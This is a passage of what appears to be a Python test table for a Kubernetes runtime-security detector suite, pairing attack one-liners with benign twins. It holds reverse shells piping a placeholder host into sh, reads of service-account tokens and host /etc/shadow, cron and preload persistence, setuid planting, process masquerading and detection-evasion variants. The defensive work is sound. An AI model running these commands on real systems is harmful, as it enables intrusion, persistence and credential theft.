"""What each detector is for: a deed that must make it speak, and its benign twin, at which it must
stay silent. Shell lines run in a container of their own each; a row may also say how the container
is made (`volume`, at /srv: a directory of the node, by what it is), which labels its pod has and which RuntimePolicy it is under. "elsewhere" names the test, in
this directory, that provokes a detector which needs more than a deed: time, or a learnt baseline.

detect_deeds.py runs them all and fails when a detector of the table in C has no row here.
"""
import os

HERE = os.path.dirname(os.path.realpath(__file__))
RING = "python3 -c '" + open(os.path.join(HERE, "ring.py")).read() + "' {}"  # past every system call

SYSCALL = "python3 -c 'import ctypes; ctypes.CDLL(None).syscall({})'"
SERVE = ("import socket, subprocess, os; s = socket.create_server((\"0.0.0.0\", 8099)); "
         "c = socket.create_connection((\"127.0.0.1\", 8099)); a = s.accept()[0]; ")
PYTHON = "python3 -c '{}'"
RELAY = ("python3 -c 'import socket, subprocess; s = socket.create_server((\"127.0.0.1\", 8098)); "
         "p = subprocess.Popen([\"bash\", \"-c\", \"{}\"], stdin=-3, stdout=-3); s.accept()[0].close(); p.wait()'")
TOKEN = ("d=/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; echo t > $d/token; ")
UNIX = ("import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"{0}\"); s.listen(); "
        "socket.socket(socket.AF_UNIX).connect(\"{0}\")")
BIND = ("python3 -c 'import socket, time; s = socket.socket(socket.AF_UNIX, {0}); s.bind(\"{1}\"); s.listen(); "
        "open(\"/tmp/bound\", \"w\"); time.sleep(60)' & p=$!; until [ -e /tmp/bound ]; do :; done; ")
DATAGRAM = ("import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind(\"{0}\"); "
            "c = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); {1}")
# the third of three messages goes there, and its address has no end of its own
MANY = ("import ctypes; v = [ctypes.create_string_buffer(b\"\\1\\0\" + a + b\"zzz\") for a in (b\"/run/app.sock\", b\"/run/app.sock\", b\"{0}\")]; "
        "m = (ctypes.c_uint64 * 24)(); m[0], m[8], m[16] = map(ctypes.addressof, v); m[1] = m[9] = 15; m[17] = len(\"{0}\") + 2; "
        "e = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); e.bind(\"/run/app.sock\"); "
        "ctypes.CDLL(None).syscall(307, c.fileno(), m, 3, 0) == 3 or print(1 / 0)")
# 198.51.100.99 is allowed to pods with this label, and nobody answers there
OUT = {"out": "yes"}
GO = "import socket; s = socket.socket(); s.setblocking(False); s.connect_ex((\"198.51.100.99\", 80)); "
SPAWN = "mount -t devpts devpts /dev/pts; echo exit | python3 -c '{}import pty; pty.spawn([\"/bin/sh\"])'"
LOADER = "/lib64/ld-linux-x86-64.so.2 {} /usr/bin/id"
CAPS = ("python3 -c 'import os, struct; f = os.open(\"/opt/s\", os.O_RDWR); "
        "os.setxattr(f, \"security.capability\", struct.pack(\"<5I\", 0x2000001, 128, 0, 0, 0))'")
CLONE = ("python3 -c 'import ctypes, os; c = ctypes.CDLL(None); p = {}; p or os._exit(0); os.waitpid(p, 0)'")
# getpid by int 0x80, in memory that is written and executed
ABI32 = ("import ctypes, mmap; m = mmap.mmap(-1, 4096, 0x22, 7); "
         "m.write(bytes.fromhex(\"b814000000\" \"cd80\" \"c3\")); "
         "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()")
# in the middle of more than a pod may have recorded, as fast as it can be
FLOOD = ("python3 -c 'import itertools, os\nfor i in itertools.count():\n"
         " d = f\"/opt/d{{i // 50}}\"; i % 50 or os.mkdir(d); open(f\"{{d}}/f{{i}}\", \"w\").close()\n"
         " os.rename(f\"{{d}}/f{{i}}\", f\"{{d}}/g{{i}}\"); i == 4000 and open(\"/tmp/full\", \"w\").close()' "
         "& p=$!; until [ -e /tmp/full ]; do :; done; {}; kill $p; wait")
CHANGED = ("python3 -c 'import mmap, os; f = os.open(\"/usr/bin/id\", os.O_RDWR); "
           "at = os.pread(f, 1 << 20, 0).index(b\"print only\"); {}'")
LIBRARY = "/usr/lib/x86_64-linux-gnu/libz.so.1"
LOADS = "python3 -c 'import ctypes; ctypes.CDLL(\"{}\")'"
# becomes root again without a set-user-id file, by a capability that it was left
CAPABLE = ("setpriv --reuid=12 --clear-groups --inh-caps=+setuid --ambient-caps=+setuid "
           "python3 -c 'import os; os.setuid(0); os.execv(\"/usr/bin/id\", [\"id\"])'")
SCRIPT = ("python3 -c 'import os; f = os.memfd_create(\"x\", 0); os.write(f, b\"#!/bin/sh\\ntrue\\n\"); {}'")
RETURNS = ("python3 -c 'import os; os.seteuid(12); os.seteuid(0); os.execv(\"/usr/bin/id\", [\"id\"])'; "
           "su -s /bin/sh -c id daemon; setpriv --reuid=12 --clear-groups id")
SIBLING = "sleep 60 & p=$!; {}; kill $p"
TRACES_CHILD = PYTHON.format(
    "import ctypes, os, signal, time; c = ctypes.CDLL(None); p = os.fork(); "
    "p or time.sleep(60); c.ptrace(0x4206, p, 0, 0); b = ctypes.create_string_buffer(8); "
    "os.kill(p, signal.SIGKILL); os.waitpid(p, 0)")
READS_ITSELF = PYTHON.format(
    "import ctypes, os; open(\"/proc/self/mem\", \"rb\"); open(\"/proc/self/environ\").read(); "
    "c = ctypes.CDLL(None); b = ctypes.create_string_buffer(8); "
    "v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8); "
    "c.process_vm_readv(os.getpid(), v, 1, v, 1, 0)")


def deed(text, **how):
    return {"text": text, **how}


def bomb(name='"sh"', actions="[]"):
    """Many executions of one shell by one program, the odd one among them."""
    return PYTHON.format(SERVE + "\nfor i in range(400):\n p = os.posix_spawn(\"/bin/sh\", [" + name +
                         ", \"-c\", \":\"], dict(), file_actions=" + actions + "); os.waitpid(p, 0)")


def flood(program, usual, odd):
    """Many executions of one program, one of them with other arguments."""
    return PYTHON.format(f"import os\nfor i in range(400):\n p = os.posix_spawn(\"{program}\", "
                         f"{odd} if i == 300 else {usual}, dict()); os.waitpid(p, 0)")


def policy(**spec):
    return {"labels": {"under": "policy"}, "policy": spec}


WRITES = policy(files={"writable": ["/var/log", "/tmp"]})
# detector: (deeds, twins)
ROWS = {
    "foreign-code": (
        [deed("cp /bin/true /opt/evil; /opt/evil"),
         deed("cp /usr/lib/x86_64-linux-gnu/libz.so.1 /var/tmp/z.so; "
              "python3 -c 'import ctypes; ctypes.CDLL(\"/var/tmp/z.so\")'"),
         deed("echo 'import os' > /opt/x.py; python3 /opt/x.py"),
         # a copy whose time says nothing: written through a mapping, or put back
         deed(CHANGED.format("m = mmap.mmap(f, 0); m[at:at + 5] = b\"PRINT\"; m.close()") + "; id --help"),
         deed(CHANGED.format("s = os.fstat(f); os.pwrite(f, b\"PRINT\", at); os.utime(f, ns=(s.st_atime_ns, s.st_mtime_ns))") + "; id --help"),
         deed(CHANGED.replace("bin/id", "bin/ldd").replace("print only", "Copyright").format("m = mmap.mmap(f, 0); m[at:at + 5] = b\"COPYR\"; m.close()") + "; bash /usr/bin/ldd --version"),
         # by another name, after an option's value, from an open file, from standard input
         deed("echo true > /opt/x; ln -s x /opt/y; sh /opt/y"),
         deed("echo pass > /opt/x; python3 -W ignore /opt/x"),
         deed("echo '1;' > /opt/x; exec 7< /opt/x; perl /proc/self/fd/7"),
         deed("echo true > /opt/x; sh < /opt/x"),
         deed("echo 'BEGIN { }' > /opt/x; awk -f /opt/x"), deed("echo 'BEGIN { }' > /opt/x; awk -f/opt/x"),
         # with the whole program in its first line
         deed("printf '#!/usr/bin/env -S sh -c id\\n' > /opt/x; chmod +x /opt/x; /opt/x"),
         deed("printf '#!/usr/bin/python3 -c1\\n' > /opt/x; chmod +x /opt/x; cd /opt; ln -s x y; ./y"),
         # behind many options, as a module or a directory of one
         deed("echo true > /opt/x; sh -x -e -u -v -a -f -C -b /opt/x"),
         deed("echo true > /opt/x; bash -o pipefail -o errexit -o nounset /opt/x"),
         deed("echo pass > /opt/x.py; cd /opt; python3 -m x"),
         deed("mkdir -p /opt/x/y; echo pass > /opt/x/y/__main__.py; cd /opt; python3 -B -m x.y"),
         deed("mkdir /opt/x; echo pass > /opt/x/__main__.py; python3 /opt/x"),
         # by the environment of an interpreter, before its script
         deed("echo true > /opt/x; BASH_ENV=/opt/x bash -c id"),
         deed("echo true > /opt/x; BASH_ENV=$(printf '/.%.0s' $(seq 200))/opt/x bash -e /usr/bin/ldd --version"),
         deed("echo true > /opt/x; BASH_ENV=/etc/host.conf bash /opt/x"),
         deed("echo '1;' > /opt/x.pm; PERL5OPT='-I/opt -Mx' perl -e 1"),
         deed("echo pass > /opt/x.py; echo 'exit()' | PYTHONSTARTUP=/opt/x.py python3 -i")],
        [deed("echo x > /opt/data; ln -s data /opt/other; python3 -c 'open(\"/opt/other\").read()' /opt/data; "
              "sh -c cat < /opt/data; perl -ne 1 /opt/data; ldd --version; awk '{ print }' /opt/data; sh -e -u -c 'cat /opt/data'"),
         deed("echo x > /opt/data; BASH_ENV=/etc/host.conf bash -c id; BASH_ENV=/opt/nothing bash -c id; PERL5OPT=-Mstrict perl -e 'open(F, \"/opt/data\")'; "
              "NODE_OPTIONS=--max-old-space-size=512 JAVA_TOOL_OPTIONS='-Xmx64m -Dx=/opt/data' bash -c 'cat /opt/data'; ENV=/opt/data sh -c 'cat /opt/data'"),
         deed("chown 12 /usr/bin/date; chmod 700 /usr/bin/uptime; date; uptime; "
              "cp /bin/true /opt/kept; cat /opt/kept > /dev/null")]),
    "fileless": (
        [deed("python3 -c 'import os; f = os.memfd_create(\"x\"); "
              "os.write(f, open(\"/bin/true\", \"rb\").read()); os.execve(f, [\"x\"], {})'"),
         deed("cp /bin/sleep /opt/gone; /opt/gone 60 & p=$!; "
              "until [ /proc/$p/exe -ef /opt/gone ]; do :; done; rm /opt/gone; "
              "/proc/$p/exe 0; kill $p"),
         deed(SCRIPT.format("os.execv(f\"/proc/self/fd/{f}\", [\"x\"])")),
         deed(SCRIPT.format("os.dup2(f, 0); os.lseek(0, 0, 0); os.execv(\"/bin/sh\", [\"sh\"])"))],
        [deed(PYTHON.format("import mmap, os; f = os.memfd_create(\"data\"); os.ftruncate(f, 4096); "
                            "mmap.mmap(f, 4096); mmap.mmap(f, 4096, mmap.MAP_SHARED, 5)"))]),
    "tmpfs-exec": (
        [deed("cp /bin/true /mnt/x; /mnt/x"),
         deed("mkdir /opt/r; mount -t ramfs none /opt/r; cp /bin/true /opt/r/x; /opt/r/x; umount -l /opt/r")],
        [deed("cp /bin/true /mnt/x; cat /mnt/x > /mnt/y; rm /mnt/x /mnt/y")]),
    "system-write": (
        [deed("cp /bin/true /usr/local/bin/tool"),
         # by a path that counts from somewhere else
         deed("cp /bin/true /tmp/x; cd /usr/local/bin; mv /tmp/x tool"),
         deed(": > /tmp/x; mv /tmp/x /proc/self/root/usr/bin/tool"), deed("mv /usr/bin/gzip /opt/app"),
         deed("cp /bin/true /tmp/x; python3 -c 'import os; d = os.open(\"/usr\", 0); "
              "os.link(\"/tmp/x\", \"share/../bin/tool\", dst_dir_fd=d)'"),
         deed("python3 -c 'import os; os.truncate(\"/usr/bin/cmp\", 10)'"),
         deed(RING.format("symlink /opt/x /usr/bin/tool")),
         # by an open directory
         deed("exec 7< /usr/bin; : > /tmp/x; mv /tmp/x /proc/self/fd/7/tool"),
         # by a link made for it, which is gone at once
         deed("ln -s /usr/bin /tmp/l; ln -s /opt/x /tmp/l/tool; rm /tmp/l"),
         deed("ln -s /usr/bin/cmp /tmp/l; python3 -c 'import os; os.truncate(\"/tmp/l\", 10)'; rm /tmp/l"),
         deed("cp /bin/true /tmp/x; ln -s /usr/bin /tmp/l; python3 -c 'import os; d = os.open(\"/tmp\", 0); "
              "os.rename(\"x\", \"l/tool\", src_dir_fd=d, dst_dir_fd=d)'; rm /tmp/l"),
         deed(RING.format("creat /usr/bin/tool")),
         deed(": > /tmp/x; " + RING.format("rename /tmp/x /usr/bin/tool"))],
        [deed("cd /usr/bin; : > /tmp/x; mv /tmp/x /tmp/y; ln -s /usr/bin/id /tmp/id; "
              "mkdir -p /opt/app/bin /usr/share/app; cp /etc/hostname /opt/app/bin/x; "
              "cp /etc/hostname /usr/share/app/x; ln -s /usr/bin /tmp/l; mv /tmp/l /tmp/m; ln -s /opt /tmp/l; "
              ": > /tmp/x; mv /tmp/x /tmp/l/tool; python3 -m compileall -q -f /usr/lib/python3/dist-packages/y*")]),
    "preload-file": (
        [deed("echo /x.so > /etc/ld.so.preload; : > /etc/ld.so.preload; rm /etc/ld.so.preload"),
         deed(": > /etc/x; cd /etc; mv x ./ld.so.preload; rm ld.so.preload"),
         deed(": > /etc/x; cd /usr/share; ln /etc/x ../../etc/ld.so.preload; rm /etc/ld.so.preload"),
         deed(": > /etc/x; cd /etc; " + RING.format("link x ld.so.preload") + "; rm /etc/ld.so.preload"),
         deed("ln -s / /tmp/r; : > /etc/x; mv /etc/x /tmp/r/etc/ld.so.preload; rm /tmp/r /etc/ld.so.preload"),
         deed("ln -s /proc/self/root/etc /tmp/r; ln -s r /tmp/q; : > /etc/x; mv /etc/x /tmp/q/ld.so.preload; rm /tmp/[qr]"),
         deed(": > /etc/x; p=$(printf './%.0s' $(seq 1 300)); cd /; mv etc/x ${p}etc/ld.so.preload; rm /etc/ld.so.preload"),
         deed("mount --bind /etc /mnt; : > /mnt/ld.so.preload; umount /mnt; rm /etc/ld.so.preload"),
         deed("mkdir -p /opt/m/n; mount --rbind / /opt/m/n; ln -s /opt/m /tmp/r; : > /etc/x; mv /tmp/r/n/etc/x /opt/m/n/etc/ld.so.preload; "
              "umount -l /opt/m/n; rm /etc/ld.so.preload")],
        [deed("cat /etc/ld.so.preload; ldconfig -p; echo x > /etc/ld.so.conf.d/app.conf")]),
    "preload-env": (
        [deed("LD_PRELOAD=/x.so /usr/bin/id"),
         deed("env A=$(head -c 60000 /dev/zero | tr '\\0' a) LD_PRELOAD=/x.so /usr/bin/id"),
         deed(LOADER.format("--preload /usr/lib/x86_64-linux-gnu/libm.so.6"))],
        [deed(LOADER.format("--list")),
         deed("id; sh -c 'ls /'; LD_LIBRARY_PATH=/opt/lib /usr/bin/date",
              env={"LD_PRELOAD": "libm.so.6"})]),
    "cron": (
        [deed("echo '* * * * * root id' > /etc/cron.d/job"),
         deed("echo '* * * * * root id' > /tmp/x; cd /etc/cron.d; mv /tmp/x job"),
         deed(FLOOD.format("echo '* * * * * root id' > /etc/cron.d/job")),
         deed("echo '* * * * * root id' > /tmp/x; ln -s /etc/cron.d /tmp/l; mv /tmp/x /tmp/l/job; rm /tmp/l"),
         deed("echo '* * * * * root id' > /tmp/x; mkdir /tmp/d; ln -s ../../etc/cron.d /tmp/d/l; mv /tmp/d /tmp/e; "
              "ln /tmp/x /tmp/e/l/job; rm -r /tmp/e"),
         # what the link says is too long for its inode
         deed("echo '* * * * * root id' > /tmp/x; ln -s ../$(printf './%.0s' $(seq 1 100))etc/cron.d /tmp/l; mv /tmp/l /tmp/m; "
              "mv /tmp/x /tmp/m/job; rm /tmp/m"),
         # the node's jobs, and the container's own by another mount
         deed("echo '* * * * * root id' > /srv/job", volume="node's jobs"),
         deed("cd /srv; echo '* * * * * root id' > x; mv x job", volume="node's jobs"),
         deed("mkdir /opt/m; mount --bind /etc /opt/m; echo '* * * * * root id' > /tmp/x; mv /tmp/x /opt/m/cron.d/job; umount /opt/m"),
         deed("mkdir -p /run/systemd/system; echo '[Timer]' > /run/systemd/system/x.timer")],
        [deed("ls /etc/cron.d /etc/cron.daily; cat /etc/cron.d/*; run-parts --test /etc/cron.daily; ln -s /etc/cron.d /tmp/l; "
              "rm /tmp/l; mkdir /tmp/l; : > /tmp/x; mv /tmp/x /tmp/l/job; ln -s /etc/cron.d /tmp/l/cron.d; mv /tmp/l/cron.d /tmp/y"),
         deed("mkdir -p /srv/etc/cron.d; echo x > /srv/etc/cron.d/job; mv /srv/etc/cron.d/job /srv/etc/cron.d/other; "
              "mkdir /opt/m; mount --bind /srv /opt/m; echo x > /opt/m/etc/cron.d/third; umount /opt/m", volume="volume")]),
    "package-manager": (
        [deed("dpkg -i /nothing.deb"), deed("dpkg --purge no-such-package"),
         deed("python3 -m pip install --no-index no-such-package"),
         deed(flood("/usr/bin/dpkg", "[\"dpkg\", \"--print-architecture\"]", "[\"dpkg\", \"--purge\", \"no-such-package\"]"))],
        [deed(flood("/usr/bin/dpkg", "[\"dpkg\", \"--print-architecture\"]", "[\"dpkg\", \"-l\"]")),
         deed("python3 -m pip --version; dpkg -l; dpkg-query -W; dpkg --print-architecture; apt-cache policy bash")]),
    "server-shell": (
        [deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/sh\", \"-c\", \"true\"])"))],
        [deed(PYTHON.format(SERVE + "subprocess.run([\"/usr/bin/gzip\", \"-V\"])")),
         deed("sh -c '" + PYTHON.format(SERVE).replace("'", "\"'\"") + "'")]),
    "socket-shell": (
        [deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/sh\", \"-c\", \"true\"], stdin=a, stdout=a)")),
         deed("bash -c ': > /dev/tcp/198.51.100.99/80' & p=$!; "
              "until grep -q ':0050 02 ' /proc/$p/net/tcp; do :; done; kill $p", labels=OUT),
         # at a terminal or socket pair of the program that is connected
         deed(SPAWN.format(GO), labels=OUT),
         deed(PYTHON.format(GO + "import subprocess; a, b = socket.socketpair(); b.send(b\"exit\\n\"); "
                            "subprocess.run([\"/bin/bash\"], stdin=a)"), labels=OUT),
         # behind pipes: one that goes in a circle, and from a tool that connects
         deed("mkfifo /opt/f; (echo exit > /opt/f) & sh < /opt/f | cat"),
         deed(bomb(actions="[(os.POSIX_SPAWN_DUP2, a.fileno(), 0)] if i == 300 else []")),
         deed("nc -w 1 198.51.100.99 80 | sh", labels=OUT),
         # through what wraps programs, with options, and as a page
         deed("nohup timeout 2 nc -w 1 198.51.100.99 80 | env bash --norc -s x", labels=OUT),
         deed("curl -s -m 1 http://198.51.100.99/ | sh", labels=OUT),
         deed("curl -s -m 1 http://198.51.100.99/ | busybox sh", labels=OUT),
         # by what does nothing but pass on, wherever from
         deed("socat TCP-LISTEN:8097,bind=127.0.0.1 EXEC:/bin/sh,pipes & p=$!; "
              "until echo exit | nc -N -w 1 127.0.0.1 8097; do kill -0 $p || break; done; kill $p"),
         # by another process, which connects later, or has done it
         deed(PYTHON.format("import socket, subprocess; p = subprocess.Popen([\"sh\"], stdin=-1); " + GO + "p.communicate()"), labels=OUT),
         deed(PYTHON.format(GO) + "; " + SPAWN.format(""), labels=OUT),
         # what runs has the connection, no shell
         deed("perl -MIO::Socket -e '$s = IO::Socket::INET->new(Proto => \"tcp\", Blocking => 0); "
              "connect($s, sockaddr_in(80, inet_aton(\"198.51.100.99\"))); open(STDIN, \"<&\", $s); open(STDOUT, \">&\", $s); system(\"id\")'",
              labels=OUT),
         deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/sh\", \"-c\", \"true\"], stdin=-3, stdout=-3, stderr=a)")),
         # it took the connection itself, to who relays it in the pod
         deed(RELAY.format("exec 0<>/dev/tcp/127.0.0.1/8098 1>&0; id; true"))],
        [deed(SPAWN.format("")),
         deed(SPAWN.format("") + "; curl -s -m 1 http://198.51.100.99/ > /tmp/x; timeout 2 nc -w 1 -z 198.51.100.99 80; sh -e -c true", labels=OUT),
         deed("echo true | sh; sleep 1.1; echo true > /tmp/in; curl -s -m 1 http://198.51.100.99/ | cat; printf 'a\\n' | sh -c 'read x; echo $x'", labels=OUT),
         deed(PYTHON.format(GO + "import subprocess; "
                            "subprocess.run([\"/bin/sh\", \"-c\", \"cat\"], input=b\"x\")"), labels=OUT),
         deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/true\"], stdin=a, stdout=a)")),
         deed("sh -c 'nc -w 1 -z 198.51.100.99 80'", labels=OUT),
         deed(RELAY.format("exec 3<>/dev/tcp/127.0.0.1/8098; echo x >&3; cat <&3; id | cat; true"))]),
    "interactive-exec": ("a terminal from outside", "commands from outside"),
    "masquerade": (
        [deed("python3 -c 'import os; os.execv(\"/bin/true\", [\"[kworker/0:1]\"])'"),
         deed("bash -c 'exec -a \" [kworker/0:1] \" true'"),
         deed(bomb(name='"[kworker/0:1]" if i == 300 else "sh"')),
         deed("python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b\"kworker/0:1\", 0, 0, 0)'"),
         deed("mkdir /tmp/.x; cp /bin/true /tmp/.x/sshd; /tmp/.x/sshd"),
         deed("bash -c 'exec -a \"sshd: root\" true'"), deed("ln /usr/bin/gzip /opt/app"),
         deed("cp /bin/true '/opt/[kworker]'; '/opt/[kworker]'"),
         deed("n=/opt/b$(printf '\\320\\260')sh; cp /bin/true $n; $n"),
         deed("n=/opt/app$(printf '\\302\\240'); cp /bin/true $n; $n")],
        [deed("bash -c 'exec -a -bash bash -c true'; bash -c 'exec -a app /bin/true'; [ 1 = 1 ]")]),
    "setuid-bit": (
        [deed("cp /bin/true /opt/s; chmod 4755 /opt/s"),
         deed("python3 -c 'import os; os.mknod(\"/opt/s\", 0o104755)'"),
         deed("cp /bin/true /opt/s; " + CAPS.replace("setxattr(f,", "setxattr(\"/opt/s\",")),
         deed("cp /bin/true /opt/s; " + CAPS),
         deed("cp /bin/true /opt/s; " + RING.format("capable /opt/s")),
         deed("cp /bin/true /opt/s; python3 -c 'import ctypes, struct; v = ctypes.create_string_buffer("
              "struct.pack(\"<5I\", 0x2000001, 128, 0, 0, 0)); a = (ctypes.c_uint64 * 2)(ctypes.addressof(v), 20); "
              "c = ctypes.CDLL(None); c.syscall(463, -100, b\"/opt/s\", 0, b\"security.capability\", a, 16) == 0 or "
              "__import__(\"os\").setxattr(\"/opt/s\", \"security.capability\", v.raw[:20])'"),
         deed("cp /bin/true /opt/s; cd /opt; chmod u+s s"),
         deed("cp /bin/true /opt/s; " + SYSCALL.format("452, -100, b\"/opt/s\", 0o4755, 0")),
         deed("cp /bin/true /opt/s; chmod g+s /opt/s"),
         deed("cp /bin/true /opt/s; ln -s s /opt/l0; for i in $(seq 12); do ln -s l$((i - 1)) /opt/l$i; done; chmod 2755 /opt/l12"),
         deed("cp /bin/true /opt/s; " + PYTHON.format("import os; os.fchmod(os.open(\"/opt/s\", 0), 0o2755)")),
         # after the same file was given less, or there was a directory of that name
         deed("cp /bin/true /opt/s; chmod 755 /opt/s; chmod 4755 /opt/s"),
         deed("mkdir /opt/s; chmod 2755 /opt/s; rmdir /opt/s; cp /bin/true /opt/s; chmod 2755 /opt/s"),
         # as a mode that is said to be a directory's
         deed("cp /bin/true /opt/s; " + SYSCALL.format("90, b\"/opt/s\", 0o44755")),
         # from its beginning: of no type, for the second time, without a name, past every system call
         deed(PYTHON.format("import os; os.mknod(\"/opt/s\", 0o2755)")),
         deed(PYTHON.format("import os; f = os.O_CREAT | os.O_WRONLY; os.open(\"/opt/s\", f, 0o755); os.unlink(\"/opt/s\"); "
                            "os.open(\"/opt/s\", f, 0o6755)")),
         deed(PYTHON.format("import os; os.open(\"/opt\", os.O_TMPFILE | os.O_WRONLY, 0o6755)")),
         deed(RING.format("creat /opt/s 0o4755"))],
        [deed("mkdir /opt/d; chmod 2775 /opt/d; chmod 4755 /opt/d; cp /bin/true /opt/s; chmod 755 /opt/s; chmod 2644 /opt/s; "
              "chmod 1777 /opt/d; install -d -m 2775 /opt/e; ln -s d /opt/l; chmod 2775 /opt/l /opt/l/. /proc/self/cwd/opt/d"),
         deed(PYTHON.format("import os; os.mkdir(\"/opt/d\", 0o2775); os.fchmod(os.open(\"/opt/d\", 0), 0o2775); "
                            "os.open(\"/opt\", os.O_TMPFILE | os.O_WRONLY, 0o600); os.mkfifo(\"/opt/p\", 0o600)"))]),
    "root-gained": ([deed(CAPABLE)], [deed(RETURNS)]),
    "namespace": (
        [deed("unshare -m true"), deed("chroot / /bin/true"),
         deed(CLONE.format("c.syscall(56, 0x20000 | 17, 0, 0, 0, 0)")),
         deed(CLONE.format("c.syscall(435, (ctypes.c_uint64 * 11)(0x20000, 0, 0, 0, 17), 88)"))],
        [deed("readlink /proc/self/ns/net; ls -l /proc/self/ns")]),
    "nsenter": ([deed("nsenter --version")], [deed("lsns; ls -l /proc/self/ns")]),
    "mount": (
        [deed("mkdir -p /tmp/m; mount -t tmpfs none /tmp/m; umount /tmp/m"),
         deed(SYSCALL.format("442, -100, b\"/mnt\", 0, (ctypes.c_uint64 * 4)(1, 0, 0, 0), 32")),
         deed("umount /mnt"), deed(SYSCALL.format("433, -100, b\"/mnt\", 0"))],
        [deed("mount; findmnt; df; cat /proc/self/mountinfo")]),
    "kernel-file": (
        # opened for writing, but nothing is written: this is the machine's own switch
        [deed("true >> /proc/sys/kernel/core_pattern"),
         deed("mkdir /opt/p; mount -t proc p /opt/p; true >> /opt/p/sys/kernel/core_pattern; umount /opt/p")],
        [deed("cat /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe; sysctl kernel.ostype")]),
    "host-root": (
        # likewise; OUTSIDE is a process of the node (1 is not always within reach)
        [deed("/proc/OUTSIDE/root/usr/bin/true"), deed("true >> /proc/OUTSIDE/root/etc/hostname"), deed("cat /proc/OUTSIDE/root/etc/shadow"),
         deed("cat /proc/OUTSIDE/root/etc/hostname"), deed("ls /proc/OUTSIDE/root/"),
         deed(RING.format("open /proc/OUTSIDE/root/etc/hostname")),
         deed("chmod 755 /proc/OUTSIDE/root/usr/bin"),
         deed("find /dev -maxdepth 1 -type b -exec head -c 1 {} +")],
        [deed("ls -l /proc/OUTSIDE/root /proc/1/exe; cat /proc/1/cmdline; lsblk; ln -sf /proc/1/fd/1 /var/log/app.log; cat /proc/1/status; "
              "true >> /proc/self/root/etc/hostname")]),
    "foreign-netns": ([deed("unshare -n true")], [deed("ip link; ss -ltn")]),
    "ptrace": (
        [deed(SIBLING.format(SYSCALL.format("101, 16, '$p', 0, 0")))],
        [deed(TRACES_CHILD)]),
    "process-memory": (
        [deed("python3 -c 'import os; open(f\"/proc/{os.getppid()}/mem\", \"rb\")'"),
         deed(SIBLING.format("python3 -c 'import ctypes; c = ctypes.CDLL(None); "
                             "c.syscall(438, c.syscall(434, '$p', 0), 1, 0)'")),
         deed(SIBLING.format("python3 -c 'import ctypes; b = ctypes.create_string_buffer(8); "
                             "v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8); "
                             "ctypes.CDLL(None).process_vm_readv('$p', v, 0, v, 0, 0)'")),
         deed(SIBLING.format("python3 -c 'import ctypes; b = ctypes.create_string_buffer(8); "
                             "v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8); "
                             "ctypes.CDLL(None).process_vm_writev('$p', v, 1, (ctypes.c_size_t * 2)(8, 8), 1, 0)'"))],
        [deed(READS_ITSELF)]),
    "kernel-module": (
        # loading is refused here, by the kernel or for what is no module: the attempt counts
        [deed(SYSCALL.format("175, b\"no module\", 9, b\"\""))],
        [deed("cat /proc/modules; ls /lib/modules")]),
    "bpf": ([deed("bpftool prog list"), deed("setpriv --reuid=12 --clear-groups " + SYSCALL.format("321, 0, 0, 0"))], [deed("ls /sys/fs/bpf; cat /proc/self/status")]),
    "userfaultfd": (
        [deed(SYSCALL.format("323, 0o2000000"))],
        [deed(PYTHON.format("import mmap; m = mmap.mmap(-1, 65536); m.madvise(mmap.MADV_DONTNEED)"))]),
    "io-uring": (
        [deed("python3 -c 'import ctypes; c = ctypes.CDLL(None); c.syscall(425, 4, (ctypes.c_char * 120)())'"),
         deed("python3 -c 'import ctypes; c = ctypes.CDLL(None); c.syscall(425, 4, (ctypes.c_char * 120)())'",
              starting=True)],
        [deed("python3 -c 'import select, os; e = select.epoll(); f = os.open(\"/etc/hostname\", 0); "
              "os.preadv(f, [bytearray(8)], 0)'"),
         deed("python3 -c 'import ctypes; c = ctypes.CDLL(None); c.syscall(425, 4, (ctypes.c_char * 120)())'",
              starting=True)]),
    "other-abi": ([deed("python3 -c '" + ABI32 + "'")], [deed("python3 -c '" + ABI32.replace("cd80", "9090") + "'")]),
    "raw-socket": (
        [deed("python3 -c 'import socket; socket.socket(17, 3, 0)'"),
         deed("python3 -c 'import socket; socket.socket(2, 10, 0x300)'"),
         # past every network policy: to the machine below, or straight from the card
         deed("python3 -c 'import socket; socket.socket(40, 1, 0)'"),
         deed("python3 -c 'import socket; socket.socket(44, 3, 0)'"),
         deed(RING.format("socket 17 3 768")), deed("python3 -c 'import socket; socket.socket(2, 3, 1)'")],
        [deed("ping -c 1 -W 1 127.0.0.1; ip addr; python3 -c 'import socket; "
              "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'")]),
    "token-read": (
        [deed(TOKEN + "cat $d/token"), deed(TOKEN + "ln $d/token /tmp/x"),
         deed("mkdir -p /root/.kube; echo t > /root/.kube/config; cat /root/.kube/config"),
         deed(TOKEN + "perl -e 'open(F, \"/run/secrets/kubernetes.io/serviceaccount/token\")'"),
         deed(TOKEN + "perl -lne 1 $d/token"), deed(TOKEN + "echo \"open('$d/token')\" | python3"),
         deed(TOKEN + "tac $d/token")],
        [deed("mkdir /opt/git; echo t > /opt/git/config; cat /opt/git/config; mkdir -p /run/secrets; "
              "ln -s /run/secrets/kubernetes.io/serviceaccount/token /opt/token"),
         deed(TOKEN + "python3 -m timeit -n1 -r1 "
              "'open(\"/run/secrets/kubernetes.io/serviceaccount/token\").read()'")]),
    "cloud-metadata": (
        [deed("nc -w 1 -z 169.254.169.254 80")],
        [deed("nc -w 1 -z 169.254.20.10 53; nc -w 1 -u -z 169.254.169.123 123")]),
    "ssh-key": (
        [deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa"),
         deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; mv /root/.ssh/id_rsa /tmp/x"),
